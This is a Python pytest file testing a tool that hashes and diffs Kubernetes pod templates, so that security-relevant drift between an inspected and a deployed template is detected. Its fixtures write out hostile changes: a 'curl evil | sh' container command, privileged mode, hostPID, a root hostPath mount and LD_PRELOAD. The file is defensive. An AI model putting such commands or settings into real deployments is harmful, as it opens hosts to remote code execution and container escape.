"""Pod templates normalized, hashed and diffed: what was inspected is what runs."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from release_readiness.podtemplate import (
    DEFAULT_ENVIRONMENT_FIELDS,
    first_difference,
    normalize_template,
    parse_field,
    template_hash,
)
from tests.unit.builders import LABELS, good_container


def template() -> dict[str, Any]:
    container = good_container()
    container["env"] = [{"name": "DB_HOST", "value": "db.staging"}]
    return {"metadata": {"labels": dict(LABELS)}, "spec": {"containers": [container]}}


def digest(tpl: dict[str, Any], fields: Any = DEFAULT_ENVIRONMENT_FIELDS) -> str:
    return template_hash(normalize_template(tpl, fields))


def test_parse_field() -> None:
    assert parse_field("spec.containers[*].env[*].value") == ("spec", "containers", "*", "env", "*", "value")
    with pytest.raises(ValueError, match="must start with metadata or spec"):
        parse_field("containers[*].image")
    with pytest.raises(ValueError, match=r"segment 'containers\[0\]' is not a field name"):
        parse_field("spec.containers[0].image")
    with pytest.raises(ValueError, match="is not a dotted field path"):
        parse_field("spec.")


def test_environment_fields_do_not_change_the_hash() -> None:
    base = template()
    prod = copy.deepcopy(base)
    prod["metadata"]["annotations"] = {"kubectl.kubernetes.io/restartedAt": "now"}
    container = prod["spec"]["containers"][0]
    container["resources"] = {"limits": {"cpu": "8"}}
    container["env"][0] = {"name": "DB_HOST", "valueFrom": {"configMapKeyRef": {"name": "db", "key": "host"}}}
    prod["spec"].update(
        nodeSelector={"pool": "prod"},
        tolerations=[{"key": "prod", "operator": "Exists"}],
        affinity={"nodeAffinity": {}},
        topologySpreadConstraints=[{"maxSkew": 1}],
        priorityClassName="critical",
        priority=1000,
    )
    assert digest(prod) == digest(base)


@pytest.mark.parametrize(
    ("change", "path"),
    [
        (
            lambda s: s["containers"][0]["securityContext"].update(privileged=True),
            "containers[0].securityContext.privileged",
        ),
        (lambda s: s.update(hostPID=True), "hostPID"),
        (lambda s: s.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]), "volumes[0].hostPath.path"),
        (lambda s: s["containers"][0].update(command=["/bin/sh", "-c", "curl evil | sh"]), "containers[0].command[0]"),
        (lambda s: s["containers"][0]["env"][0].update(name="LD_PRELOAD"), "containers[0].env[0].name"),
        (lambda s: s.update(serviceAccountName="admin"), "serviceAccountName"),
    ],
)
def test_every_other_field_changes_the_hash_and_is_named(change: Any, path: str) -> None:
    base = template()
    prod = copy.deepcopy(base)
    change(prod["spec"])
    assert digest(prod) != digest(base)
    found = first_difference(
        normalize_template(base, DEFAULT_ENVIRONMENT_FIELDS), normalize_template(prod, DEFAULT_ENVIRONMENT_FIELDS)
    )
    assert found is not None
    assert found[0] == f"spec.{path}"
    assert found[1] is None or found[1] != found[2]


def test_security_annotations_are_compared_even_though_annotations_may_differ() -> None:
    base = template()
    prod = copy.deepcopy(base)
    prod["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/api": "unconfined"}
    assert digest(prod) != digest(base)
    found = first_difference(
        normalize_template(base, DEFAULT_ENVIRONMENT_FIELDS), normalize_template(prod, DEFAULT_ENVIRONMENT_FIELDS)
    )
    assert found == ("metadata.annotations.container.apparmor.security.beta.kubernetes.io/api", None, "unconfined")


def test_what_the_system_adds_is_ignored() -> None:
    base = template()
    pod = copy.deepcopy(base)
    pod["metadata"]["labels"]["pod-template-hash"] = "5d4f"
    pod["metadata"]["creationTimestamp"] = None
    pod["spec"].update(serviceAccountName="default", serviceAccount="default", preemptionPolicy="PreemptLowerPriority")
    pod["spec"].update(enableServiceLinks=True, restartPolicy="Never")
    pod["spec"]["volumes"] = [{"name": "kube-api-access-x1", "projected": {"sources": []}}]
    pod["spec"]["containers"][0]["volumeMounts"] = [{"name": "kube-api-access-x1", "mountPath": "/var/run/secrets"}]
    assert digest(pod) == digest(base)


def test_a_checklist_can_narrow_the_environment_fields() -> None:
    base = template()
    prod = copy.deepcopy(base)
    prod["spec"]["containers"][0]["resources"] = {"limits": {"cpu": "8"}}
    assert digest(prod, ["metadata.annotations"]) != digest(base, ["metadata.annotations"])
    assert digest(prod, ["spec.containers[*].resources"]) == digest(base, ["spec.containers[*].resources"])


def test_first_difference_reports_both_values() -> None:
    assert first_difference({"a": {"b": 1}}, {"a": {"b": 2}}) == ("a.b", 1, 2)
    assert first_difference({"a": [1]}, {"a": [1, 2]}) == ("a[1]", None, 2)
    assert first_difference({"a": 1}, {"a": 1}) is None
